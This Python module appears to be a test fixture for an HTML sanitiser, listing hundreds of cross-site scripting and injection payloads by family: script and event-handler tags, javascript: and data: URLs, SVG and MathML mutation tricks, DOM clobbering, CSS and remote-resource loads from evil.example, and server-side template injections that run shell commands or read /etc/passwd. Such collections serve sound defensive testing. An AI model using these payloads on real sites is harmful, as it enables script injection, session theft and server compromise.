"""Markup that tries to run a script or fetch something, by family. Each calls `pwn()` or asks evil.example.

The families are those that sanitisers have failed at: plain elements, events, addresses, MathML and SVG,
mutation (markup that is read differently the second time), clobbering, style, templates, and the places of
our own where text becomes markup (formulas, names, attributes of the contract).
"""

from __future__ import annotations

from tests.judges.broken import listed

EVIL = "https://evil.example"

_EVENTS = listed(
    "onload onerror onclick onfocus onblur onmouseover onmouseenter onpointerover ontoggle onanimationstart "
    "ontransitionend onwheel onkeydown oninput oncut onpaste ondragstart onscroll onbeforetoggle "
    "oncontentvisibilityautostatechange onbegin onend onrepeat onpageshow onhashchange onresize"
)
_EVENT_TAGS = listed("p div img svg math details table td a body span figure video input")


def _events() -> list[str]:
    payloads = []
    for at, event in enumerate(_EVENTS):
        tag = _EVENT_TAGS[at % len(_EVENT_TAGS)]
        payloads.append(f'<{tag} src=x href=x tabindex=1 open autofocus {event}="pwn()">words</{tag}>')
    return payloads


_SCRIPTS = [
    "<script>pwn()</script>",
    "<ScRiPt>pwn()</sCrIpT>",
    "<script/src=//evil.example/x.js></script>",
    f'<script src="{EVIL}/x.js"></script>',
    "<script type=module>pwn()</script>",
    "<scr<script>ipt>pwn()</scr</script>ipt>",
    "<<script>pwn();//<</script>",
    "<script\x0c>pwn()</script>",
    "<script\n>pwn()</script\n>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'></noscript>",
    "<template><script>pwn()</script></template>",
    "<template shadowrootmode=open><img src=x onerror=pwn()></template>",
    "<xmp><script>pwn()</script></xmp>",
    "<plaintext><script>pwn()</script>",
    "<listing><img src=x onerror=pwn()></listing>",
]

_ELEMENTS = [
    "<img src=x onerror=pwn()>",
    "<img src=x onerror=pwn()//",
    "<img/src=x/onerror=pwn()>",
    "<img src=`x` onerror=pwn()>",
    '<img src="x" onerror="pwn()" alt="a">',
    "<image src=x onerror=pwn()>",
    f"<img src={EVIL}/pixel.png alt=x>",
    f'<img srcset="{EVIL}/a.png 1x, {EVIL}/b.png 2x" alt=x>',
    f"<picture><source srcset={EVIL}/a.png><img alt=x></picture>",
    f"<video src={EVIL}/v.mp4 autoplay onerror=pwn()></video>",
    "<video><source onerror=pwn()></video>",
    f"<video poster={EVIL}/p.png></video>",
    f"<audio src={EVIL}/a.mp3 autoplay onerror=pwn()></audio>",
    "<audio><track default src=x onerror=pwn()></audio>",
    f"<iframe src={EVIL}></iframe>",
    "<iframe src=javascript:parent.pwn()></iframe>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<object data=javascript:pwn()></object>",
    f"<object data={EVIL}/x.swf type=application/x-shockwave-flash></object>",
    f"<embed src={EVIL}/x.svg>",
    "<embed src=javascript:pwn()>",
    "<applet code=x></applet>",
    f"<frameset><frame src={EVIL}></frameset>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<link rel=preload as=image href={EVIL}/p.png>",
    f"<link rel=dns-prefetch href={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
    f"<base href={EVIL}/>",
    f"<form action={EVIL}><button autofocus onfocus=pwn()>x</button></form>",
    "<form><button formaction=javascript:pwn()>x</button></form>",
    "<isindex action=javascript:pwn() type=image>",
    "<input type=image src=x onerror=pwn()>",
    "<input autofocus onfocus=pwn()>",
    "<select autofocus onfocus=pwn()><option>x</select>",
    "<textarea autofocus onfocus=pwn()></textarea>",
    "<keygen autofocus onfocus=pwn()>",
    "<marquee onstart=pwn()>x</marquee>",
    "<details open ontoggle=pwn()><summary>x</summary></details>",
    "<dialog open onclose=pwn()>x</dialog>",
    "<body onload=pwn()>",
    "<html onmouseover=pwn()>",
    "<bgsound src=javascript:pwn()>",
    "<portal src=javascript:pwn()></portal>",
    "<search onclick=pwn()>x</search>",
    "<x onclick=pwn() tabindex=1 autofocus onfocus=pwn()>custom</x>",
    "<my-element onfocus=pwn() tabindex=1 autofocus></my-element>",
    "<p popover id=pp ontoggle=pwn()>x</p><button popovertarget=pp>y</button>",
]

_ADDRESSES = [
    "<a href=javascript:pwn()>x</a>",
    "<a href='JaVaScRiPt:pwn()'>x</a>",
    "<a href=' javascript:pwn()'>x</a>",
    "<a href='java\tscript:pwn()'>x</a>",
    "<a href='java&#10;script:pwn()'>x</a>",
    "<a href='&#1;javascript:pwn()'>x</a>",
    "<a href='\x01javascript:pwn()'>x</a>",
    "<a href='javascript&colon;pwn()'>x</a>",
    "<a href='&#106;avascript:pwn()'>x</a>",
    "<a href='javascript://%0apwn()'>x</a>",
    "<a href='vbscript:pwn()'>x</a>",
    "<a href='data:text/html,<script>pwn()</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='https://example.org/\"onmouseover=\"pwn()'>x</a>",
    "<a href='blob:https://evil.example/x'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='view-source:javascript:pwn()'>x</a>",
    f"<a href=# ping={EVIL}/ping>x</a>",
    f"<a href='{EVIL}/' target=_blank download>x</a>",
    "<a href='mailto:x?body=<script>pwn()</script>'>x</a>",
    "<area href=javascript:pwn() shape=default>",
    "<a xlink:href=javascript:pwn()>x</a>",
    "<q cite=javascript:pwn()>x</q><blockquote cite=javascript:pwn()>x</blockquote>",
    "<table background=javascript:pwn()><tr><td background=javascript:pwn()>x</table>",
    "<a href='\u3000javascript:pwn()'>x</a>",
    "<a href='\u2028javascript:pwn()'>x</a>",
]

_FOREIGN = [
    "<svg onload=pwn()></svg>",
    "<svg><script>pwn()</script></svg>",
    "<svg><script href=data:,pwn()></script></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s></svg>",
    "<svg><a><animate attributeName=href values=javascript:pwn()></animate><text y=20>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=pwn()></set></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>"
    "pwn()</script></svg>#x'></svg>",
    f"<svg><image href={EVIL}/p.png></image></svg>",
    f"<svg><feimage href={EVIL}/p.png></feimage></svg>",
    "<svg><foreignobject><img src=x onerror=pwn()></foreignobject></svg>",
    "<svg><title><img src=x onerror=pwn()></title></svg>",
    "<svg><desc><style><img src=x onerror=pwn()></style></desc></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=pwn()>'>",
    "<svg><style>@import 'https://evil.example/x.css'</style></svg>",
    "<svg xmlns=http://www.w3.org/2000/svg onload=pwn()>",
    "<math href=javascript:pwn()>x</math>",
    "<math><mi href=javascript:pwn()>x</mi></math>",
    "<math><mtext><img src=x onerror=pwn()></mtext></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwn()>",
    "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwn()&gt;'>",
    "<math><annotation-xml encoding=text/html><script>pwn()</script></annotation-xml></math>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=pwn()></style>"
    "</annotation-xml></math>",
    "<math><semantics><annotation-xml encoding=image/svg+xml><svg onload=pwn()></svg>"
    "</annotation-xml></semantics></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:pwn()>x</maction></math>",
    "<math><style><img src=x onerror=pwn()></style></math>",
    "<math><mi//xlink:href='data:x,<script>pwn()</script>'>",
    "<math><mtext><script>pwn()</script></mtext></math>",
]

_MUTATION = [
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>",
    "<math><mtext><table><mglyph><style><math><img src onerror=pwn()>",
    "<svg></p><title><a id='</title><img src=x onerror=pwn()>'></title></svg>",
    "<noembed><img title='</noembed><img src=x onerror=pwn()>'></noembed>",
    "<table><caption><svg><title><table><caption></caption></table></title><style>"
    "<a title='</style><img src=1 onerror=pwn()>'></style></svg></caption></table>",
    "<p title='</p><img src=x onerror=pwn()>'>x",
    "<p id='--><img src=x onerror=pwn()>'>x</p>",
    "<!--><img src=x onerror=pwn()>-->",
    "<!--!><img src=x onerror=pwn()>--!>",
    "<![CDATA[<img src=x onerror=pwn()>]]>",
    "<?xml-stylesheet><img src=x onerror=pwn()>?>",
    "<!ENTITY x '<img src=x onerror=pwn()>'>",
    "&lt;img src=x onerror=pwn()&gt;",
    "&amp;lt;script&amp;gt;pwn()&amp;lt;/script&amp;gt;",
    "<textarea></p><img src=x onerror=pwn()>",
    "<title></title><img src=x onerror=pwn()>",
    "<select><template><img src=x onerror=pwn()></template></select>",
    "<table><tr><td><select><svg><style><a title='</style><img src=x onerror=pwn()>'>",
    "<div><ruby><rt><svg><style><a title='</style><img src=x onerror=pwn()>'></svg></rt></ruby></div>",
    "<p><b><i><a href=x><table><a href=javascript:pwn()>x</a></table></a></i></b></p>",
    "<pre>\n\n<img src=x onerror=pwn()></pre>",
    "<code>`<img src=x onerror=pwn()>`</code>",
    "<a href='x' title='&quot;&gt;&lt;img src=x onerror=pwn()&gt;'>x</a>",
    "<p lang='en\"><img src=x onerror=pwn()>'>x</p>",
    "<td headers='a\"><img src=x onerror=pwn()>'>x</td>",
    "<ol start='1\"><script>pwn()</script>'><li>x</ol>",
    "<div>" * 300 + "<img src=x onerror=pwn()>" + "</div>" * 300,
    "<b>" * 200 + "<p>x</p>" * 5 + "<img src=x onerror=pwn()>",
    "<p>\ud800<img src=x onerror=pwn()>\udfff</p>",
    "+ADw-script+AD4-pwn()+ADw-/script+AD4-",
]

_CLOBBERING = [
    "<a id=document name=cookie href=x>x</a>",
    "<form id=body><input name=parentNode><input name=childNodes></form>",
    "<img name=getElementById alt=x>",
    "<form name=document><img name=body></form>",
    "<a id=location href=javascript:pwn()>x</a>",
    "<p id=__proto__>x</p><p id=constructor>y</p>",
    "<p id=content>clobbers the target of the skip link</p>",
    "<p id=page-1>clobbers a page break</p><p id=notice-1>and a notice</p>",
    "<map name=x><area href=javascript:pwn()></map>",
    "<output name=attributes>x</output>",
]

_STYLE = [
    f"<p style='background:url({EVIL}/p.png)'>x</p>",
    "<p style='width:expression(pwn())'>x</p>",
    f"<style>@import '{EVIL}/x.css';body{{background:url({EVIL}/p.png)}}</style>",
    f"<style>p{{content:url({EVIL}/c.png)}}</style><p>x</p>",
    "<style></style><img src=x onerror=pwn()>",
    f"<div class=skip-link style='position:fixed;inset:0'><a href={EVIL}>overlay</a></div>",
    "<p style='animation:x' onanimationstart=pwn()>x</p><style>@keyframes x{}</style>",
    f"<font face=x color=red size=7><a href={EVIL}>huge</a></font>",
]

_TEMPLATES = [
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('pwn()')()}}",
    "{% include '/etc/passwd' %}",
    "{{ '<script>pwn()</script>'|safe }}",
    "{# comment #}{% raw %}<script>pwn()</script>{% endraw %}",
]

_FORMULAS = [
    r"<span data-math=inline>\text{<img src=x onerror=pwn()>}</span>",
    r"<span data-math=inline>\text{&lt;img src=x onerror=pwn()&gt;}</span>",
    r"<span data-math=block>\text{&lt;script&gt;pwn()&lt;/script&gt;}</span>",
    r"<span data-math=inline>\href{javascript:pwn()}{x}</span>",
    r"<span data-math=inline>\url{javascript:pwn()}</span>",
    r"<span data-math=inline>\class{x}{y}\style{background:url(https://evil.example/p)}{z}</span>",
    r"<span data-math=inline>\mathrm{&lt;/math&gt;&lt;img src=x onerror=pwn()&gt;}</span>",
    r"<span data-math=inline>\unicode{x3c}img src=x onerror=pwn()\unicode{x3e}</span>",
    r"<span data-math=inline>\htmlData{x=y}{z}\includegraphics{https://evil.example/p.png}</span>",
    r"<span data-math=inline>\color{red&quot; onmouseover=&quot;pwn()}{x}</span>",
    r"<span data-math='inline&quot; onclick=pwn()'>x^2</span>",
    r"<span data-math=inline>\begin{array}{c&quot;onclick=pwn()}x\end{array}</span>",
]

_CONTRACT = [
    '<p data-continues="prev&quot;&gt;&lt;img src=x onerror=pwn()&gt;">x</p>',
    "<figure data-bbox='0 0 1 1\"><img src=x onerror=pwn()>' data-kind=photo><img alt='\">"
    "<script>pwn()</script>'></figure>",
    "<figure data-bbox='0 0 900 900'><img alt='x\" onerror=\"pwn()' src=x></figure>",
    f"<figure data-bbox='0 0 900 900'><img alt=x src={EVIL}/p.png></figure>",
    "<sup data-note='1\"><img src=x onerror=pwn()>'>1</sup><section data-role=footnotes>"
    "<p data-note='1\"><img src=x onerror=pwn()>'>n</p></section>",
    "<h2><img src=x onerror=pwn()>heading in the contents</h2>",
    "<h2>&lt;img src=x onerror=pwn()&gt;</h2>",
    "<table><caption>&lt;img src=x onerror=pwn()&gt;</caption><tr><th>"
    "averyveryverylongcolumnheading</th><th>anotherlongone</th></tr><tr><td>a<td>b</tr></table>",
    "</article><script>pwn()</script>",
    "<header data-role=running><script>pwn()</script></header>",
]

PAYLOADS: dict[str, list[str]] = {
    "script": _SCRIPTS,
    "event": _events(),
    "element": _ELEMENTS,
    "address": _ADDRESSES,
    "foreign": _FOREIGN,
    "mutation": _MUTATION,
    "clobbering": _CLOBBERING,
    "style": _STYLE,
    "template": _TEMPLATES,
    "formula": _FORMULAS,
    "contract": _CONTRACT,
}

PLAIN_TEXT = [
    "<script>pwn()</script>",
    '"><img src=x onerror=pwn()>',
    "'><svg onload=pwn()>",
    "</title><script>pwn()</script>",
    "</style><script>pwn()</script>",
    "--><script>pwn()</script>",
    'x" autofocus onfocus="pwn()',
    "{{ 7*7 }}",
    "\x1b]0;x\x07\u202e<img src=x onerror=pwn()>",
]
"""For the places that take text: names, titles, labels, causes, bookmarks."""
